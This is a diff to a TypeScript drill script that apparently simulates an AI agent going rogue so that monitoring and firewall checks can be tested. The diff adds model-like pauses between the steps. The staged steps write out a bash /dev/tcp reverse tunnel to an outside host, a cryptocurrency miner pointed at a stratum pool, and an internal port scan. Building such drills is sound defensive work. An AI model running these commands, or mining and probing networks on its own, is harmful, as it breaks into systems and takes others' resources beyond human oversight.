@@ -22,6 +22,8 @@ import type { Checks, Script, Stage } from './stage.ts'
 const poolPort = 3333
 const sshPort = 2222
 const gpuEveryMs = 5_000
+/** A model takes its time between two calls. */
+const thinkingMs = 6_000
 
 export const rome: Script = async (stage) => {
   const { side, folder, session, api, note, say } = stage.parts
@@ -58,6 +60,7 @@ export const rome: Script = async (stage) => {
   })
 
   // A way in, from outside.
+  await stage.pass(thinkingMs)
   const tunnel = await stage.misbehave(
     `${sshd?.command ?? `bash -c 'exec 3<>/dev/tcp/${side.address}/${silent}; read -r _ <&3'`} >tunnel.log 2>&1 & sleep 2`,
   )
@@ -68,6 +71,7 @@ export const rome: Script = async (stage) => {
   firewall('tunnel', tunnel.call, fromTunnel)
 
   // Somebody else's money.
+  await stage.pass(thinkingMs)
   const mining = await stage.misbehave(
     `${node} worker.mjs stratum+tcp://${side.address}:${pool} >worker.log 2>&1 & sleep 2`,
   )
@@ -81,7 +85,8 @@ export const rome: Script = async (stage) => {
   note('the GPU readings are recorded: no card is burdened by a drill')
 
   // A look around.
-  const probing = await stage.misbehave(`${node} lookaround.mjs ${side.inside} 3 ${looksMax + 2} 22 ${looksFromPort}`)
+  await stage.pass(thinkingMs)
+  const probing = await stage.misbehave(`${node} lookaround.mjs ${side.inside}.3 ${looksMax} 22 ${looksFromPort}`)
   const tried = (n: number): SeenFlow => ({
     atMs: probing.startedAtMs + 300,
     from: { address: side.near, port: looksFromPort + n },
